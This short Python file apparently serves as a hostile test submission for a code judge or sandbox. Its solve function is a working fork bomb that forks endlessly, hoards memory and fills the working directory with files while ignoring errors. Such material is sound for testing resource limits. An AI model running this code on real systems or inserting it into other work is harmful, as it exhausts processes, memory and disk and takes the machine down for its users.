"""Forks without an end; every process fills the private directory and takes
memory."""

import os


def solve(n):
    held = []
    while True:
        try:
            os.fork()
            held.append(bytearray(1 << 20))
            with open("file-%d-%d" % (os.getpid(), len(held)), "wb") as f:
                f.write(bytes(1 << 19))
        except (OSError, MemoryError):
            pass
